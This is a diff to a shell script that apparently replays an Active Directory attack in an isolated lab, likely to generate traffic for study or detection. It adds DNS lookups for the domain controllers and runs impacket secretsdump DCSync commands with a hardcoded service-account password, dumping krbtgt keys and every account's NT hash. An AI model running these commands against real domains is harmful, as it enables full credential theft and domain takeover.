@@ -26,11 +26,15 @@ play() {
   note "0 benign: carol gets a TGT with kinit and a cifs ticket, lists the dept share, puts minutes.txt and gets budget-2027.txt (smbclient, Kerberos, SMB2/3)"
   benign_smb
   sleep 2
+  note "0b attacker locates the domain controllers in DNS (dc1's own DNS server): SRV _ldap._tcp.dc._msdcs.lab.local, then A dc1.lab.local"
+  nsx att dig +short @$V _ldap._tcp.dc._msdcs.lab.local SRV >"$RUN/logs/dig.log" 2>&1 || true
+  nsx att dig +short @$V dc1.lab.local A >>"$RUN/logs/dig.log" 2>&1 || true
+  sleep 1
   note "1 DCSync of krbtgt: impacket secretsdump 'LAB/svc_sql:Mssql2019!@$V' -just-dc-user LAB/krbtgt (NTLM; tools/secretsdump-samba.py: impacket's secretsdump with the schemaInfo prefix entry Samba requires): SMB session, EPM map of DRSUAPI (135), DRSUAPI bind (packet privacy: stubs sealed), DsBind, DsDomainControllerInfo, DsCrackNames LAB\\krbtgt, DsGetNCChanges (EXOP_REPL_OBJ) → krbtgt's NT hash and AES keys"
-  nsx att timeout 60 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-user 'LAB/krbtgt' >"$RUN/logs/secretsdump-krbtgt.log" 2>&1 </dev/null || true
+  ( cd "$RUN" && nsx att timeout 60 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-user 'LAB/krbtgt' >"$RUN/logs/secretsdump-krbtgt.log" 2>&1 </dev/null ) || true   # in $RUN: secretsdump leaves a session-resume file in its directory when it fails
   sleep 2
   note "2 DCSync of every account: secretsdump -just-dc-ntlm with the same account: SAMR over SMB (\\pipe\\samr) lists the users, then DsCrackNames + DsGetNCChanges per account → NT hashes of all accounts"
-  nsx att timeout 90 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-ntlm >"$RUN/logs/secretsdump-ntlm.log" 2>&1 </dev/null || true
+  ( cd "$RUN" && nsx att timeout 90 /usr/bin/python3 "$HERE/tools/secretsdump-samba.py" 'LAB/svc_sql:Mssql2019!@'$V -just-dc-ntlm >"$RUN/logs/secretsdump-ntlm.log" 2>&1 </dev/null ) || true
   sleep 2
   note "3 benign: carol copies minutes.txt again"
   benign_smb
